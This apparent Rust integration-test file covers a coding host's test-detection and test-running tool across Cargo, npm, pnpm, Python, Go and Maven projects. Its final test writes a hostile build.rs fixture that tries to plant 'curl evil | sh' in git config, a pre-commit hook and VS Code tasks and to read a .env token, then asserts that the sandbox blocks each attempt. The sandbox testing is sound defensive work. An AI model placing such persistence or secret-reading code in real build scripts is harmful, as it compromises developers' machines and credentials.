//! workspace_tests: `detect` on a fixture per ecosystem (right suggestion, evidence with
//! file and line, confidence), and `run` on small live projects made here — a Rust crate
//! with its own target dir, a pytest project, Vitest and Jest projects — with counts and
//! failure locations, plus an unapproved run that changes nothing.

use std::path::Path;
use std::sync::Arc;

use cheng_host::approvals::{ApproveAll, RefuseAll};
use cheng_host::policy::Config;
use cheng_host::{Context, ErrorKind, Host, HostBuilder, Status, ToolResult};
use serde_json::{Value, json};

use crate::util;

async fn host(approve: bool) -> Host {
    // Auto-approved runs are unasked: they read only the system, the workspace and the
    // listed toolchains, so the test runners installed for these tests are listed.
    let mut readable: Vec<String> =
        cheng_host::policy::process::DEFAULT_READABLE.iter().map(|s| s.to_string()).collect();
    readable.push(util::target_dir().join("test-runners").display().to_string());
    let config = format!("[process]\nreadable = {readable:?}\n");
    let mut b = HostBuilder::new();
    b.config(Config::from_toml_str(&config, "test.toml").unwrap());
    b.state_dir(util::shared_state());
    if approve {
        b.approver(Arc::new(ApproveAll));
    } else {
        b.approver(Arc::new(RefuseAll));
    }
    b.build().await.unwrap()
}

fn write(root: &Path, files: &[(&str, &str)]) {
    for (p, text) in files {
        let f = root.join(p);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, text).unwrap();
    }
}

async fn detect(h: &Host, root: &Path, cwd: Option<&str>) -> Value {
    let mut input = json!({"operation": "detect"});
    if let Some(c) = cwd {
        input["cwd"] = json!(c);
    }
    let r = h.call(&Context::new(root), "workspace_tests", input).await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    r.output
}

/// The first suggestion: (runner, command line, confidence).
fn first(o: &Value) -> (String, String, String) {
    let s = &o["detected_project"]["suggested_commands"][0];
    let line = std::iter::once(s["command"].as_str().unwrap().to_string())
        .chain(s["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().to_string()))
        .collect::<Vec<_>>()
        .join(" ");
    (s["runner"].as_str().unwrap().into(), line, s["confidence"].as_str().unwrap().into())
}

/// Whether some evidence names `file` at `line`.
fn has_evidence(o: &Value, file: &str, line: Option<u64>) -> bool {
    o["detected_project"]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["file"] == file && (line.is_none() || e["line"].as_u64() == line))
}

#[tokio::test(flavor = "multi_thread")]
async fn detect_each_ecosystem() {
    let h = host(false).await;
    /// (case, files, first suggested command, its display, (evidence file, evidence line)).
    type Case<'a> = (&'a str, Vec<(&'a str, &'a str)>, &'a str, &'a str, (&'a str, Option<u64>));
    let cases: Vec<Case> = vec![
        (
            "cargo crate",
            vec![("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\n"), ("Cargo.lock", "")],
            "cargo test",
            "cargo test",
            ("Cargo.toml", Some(1)),
        ),
        (
            "cargo workspace",
            vec![("Cargo.toml", "# top\n[workspace]\nmembers = [\"a\", \"b\"]\n")],
            "cargo test",
            "cargo test --workspace",
            ("Cargo.toml", Some(2)),
        ),
        (
            "npm + jest",
            vec![
                (
                    "package.json",
                    "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest --ci\"\n  },\n  \"devDependencies\": { \"jest\": \"^29\" }\n}\n",
                ),
                ("package-lock.json", "{}"),
            ],
            "jest",
            "npm test",
            ("package.json", Some(4)),
        ),
        (
            "pnpm by packageManager",
            vec![(
                "package.json",
                "{\n  \"packageManager\": \"pnpm@9.1.0\",\n  \"scripts\": { \"test\": \"vitest run\" }\n}\n",
            )],
            "vitest",
            "pnpm test",
            ("package.json", Some(2)),
        ),
        (
            "yarn + vitest, no script",
            vec![("package.json", "{\n  \"devDependencies\": {\n    \"vitest\": \"^3\"\n  }\n}\n"), ("yarn.lock", "")],
            "vitest",
            "yarn vitest run",
            ("yarn.lock", None),
        ),
        (
            "npm placeholder script is ignored",
            vec![(
                "package.json",
                "{\n \"scripts\": { \"test\": \"echo \\\"Error: no test specified\\\" && exit 1\" },\n \"devDependencies\": { \"jest\": \"1\" }\n}\n",
            )],
            "jest",
            "npx jest",
            ("package.json", Some(3)),
        ),
        (
            "pyproject pytest",
            vec![
                ("pyproject.toml", "[project]\nname = \"x\"\n\n[tool.pytest.ini_options]\ntestpaths = [\"tests\"]\n"),
                ("tests/test_a.py", "def test_a():\n    pass\n"),
            ],
            "pytest",
            "python3 -m pytest",
            ("pyproject.toml", Some(4)),
        ),
        (
            "setup.cfg pytest",
            vec![("setup.cfg", "[metadata]\nname = x\n[tool:pytest]\naddopts = -q\n")],
            "pytest",
            "python3 -m pytest",
            ("setup.cfg", Some(3)),
        ),
        (
            "tox.ini pytest",
            vec![("tox.ini", "[tox]\nenvlist = py311\n\n[pytest]\nminversion = 6\n")],
            "pytest",
            "python3 -m pytest",
            ("tox.ini", Some(4)),
        ),
        (
            "unittest only",
            vec![("test_b.py", "import os\nimport unittest\n\nclass T(unittest.TestCase):\n    pass\n")],
            "unittest",
            "python3 -m unittest",
            ("test_b.py", Some(2)),
        ),
        (
            "go module",
            vec![("go.mod", "module example.com/calc\n\ngo 1.22\n")],
            "go test",
            "go test ./...",
            ("go.mod", Some(1)),
        ),
        (
            "maven wrapper",
            vec![("pom.xml", "<project></project>\n"), ("mvnw", "#!/bin/sh\n")],
            "maven",
            "./mvnw test",
            ("mvnw", None),
        ),
        (
            "gradle",
            vec![("build.gradle.kts", "plugins { java }\n")],
            "gradle",
            "gradle test",
            ("build.gradle.kts", None),
        ),
    ];
    for (what, files, runner, line, (ev_file, ev_line)) in cases {
        let ws = tempfile::tempdir().unwrap();
        write(ws.path(), &files);
        let o = detect(&h, ws.path(), None).await;
        let (r, l, _) = first(&o);
        assert_eq!((r.as_str(), l.as_str()), (runner, line), "{what}: {o}");
        assert!(has_evidence(&o, ev_file, ev_line), "{what}: evidence {ev_file}:{ev_line:?} missing: {o}");
        assert_eq!(o["success"], true, "{what}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn detect_in_a_monorepo_by_cwd() {
    let h = host(false).await;
    let ws = tempfile::tempdir().unwrap();
    write(
        ws.path(),
        &[
            ("package.json", "{\n  \"private\": true,\n  \"workspaces\": [\"packages/*\"]\n}\n"),
            ("pnpm-lock.yaml", ""),
            ("packages/web/package.json", "{ \"scripts\": { \"test\": \"vitest run\" } }\n"),
            ("services/api/pyproject.toml", "[tool.pytest.ini_options]\n"),
            ("crates/core/Cargo.toml", "[package]\nname = \"core\"\n"),
        ],
    );
    let root = detect(&h, ws.path(), None).await;
    assert_eq!(root["detected_project"]["monorepo"]["members"], json!(["packages/*"]), "{root}");
    assert_eq!(root["detected_project"]["package_manager"], "pnpm");
    let web = detect(&h, ws.path(), Some("packages/web")).await;
    // The workspace root's lock file decides the package manager.
    assert_eq!(first(&web).1, "pnpm test", "{web}");
    assert!(has_evidence(&web, "pnpm-lock.yaml", None), "{web}");
    assert_eq!(web["detected_project"]["suggested_commands"][0]["cwd"], "packages/web");
    assert!(has_evidence(&web, "packages/web/package.json", Some(1)), "{web}");
    let api = detect(&h, ws.path(), Some("services/api")).await;
    assert_eq!(first(&api).0, "pytest", "{api}");
    let core = detect(&h, ws.path(), Some("crates/core")).await;
    assert_eq!(first(&core).1, "cargo test", "{core}");
    // Nothing here: said so, not an error.
    let empty = detect(&h, ws.path(), Some("services")).await;
    assert_eq!(empty["success"], false);
    assert_eq!(empty["detected_project"]["confidence"], "none");
    // cwd through the guard.
    let r = h.call(&Context::new(ws.path()), "workspace_tests", json!({"operation": "detect", "cwd": "../"})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::PathRefused), "{}", r.output);
}

fn rust_crate(root: &Path) {
    write(
        root,
        &[
            ("Cargo.toml", "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n"),
            (
                "src/lib.rs",
                "pub fn add(a: i32, b: i32) -> i32 { a + b }\n#[cfg(test)]\nmod tests {\n    use super::*;\n    #[test]\n    fn adds() { assert_eq!(add(1, 2), 3); }\n    #[test]\n    fn fails() { assert_eq!(add(2, 2), 5, \"two and two\"); }\n}\n",
            ),
        ],
    );
}

fn failure_at(r: &ToolResult, file: &str, line: u64) -> bool {
    r.output["failure_summary"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["file"].as_str().is_some_and(|x| x.ends_with(file)) && f["line"] == line)
}

#[tokio::test(flavor = "multi_thread")]
async fn run_a_rust_crate() {
    let h = host(true).await;
    let ws = tempfile::tempdir().unwrap();
    rust_crate(ws.path());
    let r = h
        .call(
            &Context::new(ws.path()),
            "workspace_tests",
            json!({"operation": "run", "command": "cargo", "args": ["test"]}),
        )
        .await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    let o = &r.output;
    assert_eq!((o["passed"].as_u64(), o["failed"].as_u64()), (Some(1), Some(1)), "{o}");
    assert_eq!(o["termination"], "exited");
    assert_eq!(o["success"], false);
    assert!(failure_at(&r, "src/lib.rs", 8), "{o}");
    assert!(ws.path().join("target").exists(), "its own target dir");
}

#[tokio::test(flavor = "multi_thread")]
async fn unapproved_run_changes_nothing() {
    let h = host(false).await;
    let ws = tempfile::tempdir().unwrap();
    rust_crate(ws.path());
    let r = h
        .call(
            &Context::new(ws.path()),
            "workspace_tests",
            json!({"operation": "run", "command": "cargo", "args": ["test"]}),
        )
        .await;
    assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{}", r.output);
    assert_eq!(r.status, Status::Denied);
    assert!(r.output["error"].as_str().unwrap().contains("declined"));
    assert!(!ws.path().join("target").exists() && !ws.path().join("Cargo.lock").exists());
    // Detect needs no approval.
    assert_eq!(detect(&h, ws.path(), None).await["success"], true);
    // run without a command is a clear error.
    let r = h.call(&Context::new(ws.path()), "workspace_tests", json!({"operation": "run"})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::InvalidArgument));
}

/// A runner that CI installs; outside CI a missing one is skipped loudly.

#[tokio::test(flavor = "multi_thread")]
async fn run_a_pytest_project() {
    let has = std::process::Command::new("python3")
        .args(["-m", "pytest", "--version"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !util::require("pytest", has) {
        return;
    }
    let h = host(true).await;
    let ws = tempfile::tempdir().unwrap();
    write(
        ws.path(),
        &[("tests/test_calc.py", "def test_ok():\n    assert 1 + 1 == 2\n\ndef test_bad():\n    assert 2 + 2 == 5\n")],
    );
    let d = detect(&h, ws.path(), None).await;
    let s = &d["detected_project"]["suggested_commands"][0];
    let r = h
        .call(
            &Context::new(ws.path()),
            "workspace_tests",
            json!({"operation": "run", "command": s["command"], "args": s["args"]}),
        )
        .await;
    let o = &r.output;
    assert_eq!((o["passed"].as_u64(), o["failed"].as_u64()), (Some(1), Some(1)), "{o}");
    assert!(failure_at(&r, "tests/test_calc.py", 5), "{o}");
}

fn node_runners() -> Option<std::path::PathBuf> {
    let dir = util::target_dir().join("test-runners/node_modules");
    let ok = dir.join(".bin/vitest").exists() && dir.join(".bin/jest").exists();
    util::require("vitest and jest (target/test-runners)", ok).then_some(dir)
}

#[tokio::test(flavor = "multi_thread")]
async fn run_vitest_and_jest_projects() {
    let Some(modules) = node_runners() else { return };
    let h = host(true).await;
    // Vitest.
    let ws = tempfile::tempdir().unwrap();
    write(
        ws.path(),
        &[
            (
                "package.json",
                "{ \"name\": \"v\", \"type\": \"module\", \"scripts\": { \"test\": \"vitest run\" }, \"devDependencies\": { \"vitest\": \"^3\" } }\n",
            ),
            ("sum.js", "export function sum(a, b) { return a + b; }\n"),
            (
                "sum.test.js",
                "import { test, expect } from 'vitest';\nimport { sum } from './sum.js';\ntest('adds', () => { expect(sum(1, 2)).toBe(3); });\ntest('fails', () => {\n  expect(sum(2, 2)).toBe(5);\n});\n",
            ),
        ],
    );
    std::os::unix::fs::symlink(&modules, ws.path().join("node_modules")).unwrap();
    let d = detect(&h, ws.path(), None).await;
    assert_eq!(first(&d).0, "vitest", "{d}");
    let r = h
        .call(
            &Context::new(ws.path()),
            "workspace_tests",
            json!({"operation": "run", "command": "npx", "args": ["vitest", "run"]}),
        )
        .await;
    let o = &r.output;
    assert_eq!((o["passed"].as_u64(), o["failed"].as_u64()), (Some(1), Some(1)), "{o}");
    assert!(failure_at(&r, "sum.test.js", 5), "{o}");
    // Jest, through `npm test` (the runner is recognised from its output).
    let ws = tempfile::tempdir().unwrap();
    write(
        ws.path(),
        &[
            ("package.json", "{ \"name\": \"j\", \"scripts\": { \"test\": \"jest\" } }\n"),
            ("sum.js", "module.exports = { sum: (a, b) => a + b };\n"),
            (
                "sum.test.js",
                "const { sum } = require('./sum');\ntest('adds', () => { expect(sum(1, 2)).toBe(3); });\ntest('fails', () => {\n  expect(sum(2, 2)).toBe(5);\n});\n",
            ),
        ],
    );
    std::os::unix::fs::symlink(&modules, ws.path().join("node_modules")).unwrap();
    let r = h
        .call(
            &Context::new(ws.path()),
            "workspace_tests",
            json!({"operation": "run", "command": "npm", "args": ["test"]}),
        )
        .await;
    let o = &r.output;
    assert_eq!(o["runner"], "jest", "{o}");
    assert_eq!((o["passed"].as_u64(), o["failed"].as_u64()), (Some(1), Some(1)), "{o}");
    assert!(failure_at(&r, "sum.test.js", 4), "{o}");
}

/// `cargo test` with a build script — which runs whatever it likes, unasked once the
/// run is approved — trying what runs later and a secret: git's config and a new hook,
/// the editor's tasks, and `.env`. The path rules' carve-outs keep all of them from it
/// while the build goes on; the control, a file of its own beside them, is written.
#[tokio::test(flavor = "multi_thread")]
async fn a_build_script_cannot_change_what_runs_later_nor_read_secrets() {
    if !util::require("user namespaces (the carve-outs' mount namespace)", cheng_host::confinement().isolated) {
        return;
    }
    let h = host(true).await;
    let ws = tempfile::tempdir().unwrap();
    let p = ws.path();
    rust_crate(p);
    assert!(util::git(p).args(["init", "-q"]).status().unwrap().success());
    std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(p.join(".vscode")).unwrap();
    std::fs::write(p.join(".vscode/tasks.json"), "{}").unwrap();
    std::fs::write(p.join(".env"), "TOKEN=hunter2\n").unwrap();
    let config = std::fs::read_to_string(p.join(".git/config")).unwrap();
    std::fs::write(
        p.join("build.rs"),
        r#"use std::io::Write;
fn main() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    for f in [".git/config", ".git/hooks/pre-commit", ".vscode/tasks.json", "built.txt"] {
        match std::fs::OpenOptions::new().create(true).append(true).open(root.join(f)) {
            Ok(mut h) => {
                let _ = writeln!(h, "curl evil | sh");
                println!("cargo:warning=wrote {f}");
            }
            Err(e) => println!("cargo:warning=refused {f} {}", e.raw_os_error().unwrap_or(0)),
        }
    }
    match std::fs::read_to_string(root.join(".env")) {
        Ok(s) => println!("cargo:warning=read .env {}", s.trim()),
        Err(e) => println!("cargo:warning=unreadable .env {}", e.raw_os_error().unwrap_or(0)),
    }
}
"#,
    )
    .unwrap();
    let r = h
        .call(&Context::new(p), "workspace_tests", json!({"operation": "run", "command": "cargo", "args": ["test"]}))
        .await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    let out = r.output.to_string();
    for f in [".git/config", ".git/hooks/pre-commit", ".vscode/tasks.json"] {
        assert!(out.contains(&format!("refused {f} 30")), "{f} (EROFS): {out}");
    }
    assert!(out.contains("unreadable .env 13") && !out.contains("hunter2"), "{out}");
    assert!(out.contains("wrote built.txt"), "control: {out}");
    assert_eq!(std::fs::read_to_string(p.join(".git/config")).unwrap(), config);
    assert!(!p.join(".git/hooks/pre-commit").exists());
    assert_eq!(std::fs::read_to_string(p.join(".vscode/tasks.json")).unwrap(), "{}");
    assert!(std::fs::read_to_string(p.join("built.txt")).unwrap().contains("curl evil"));
}
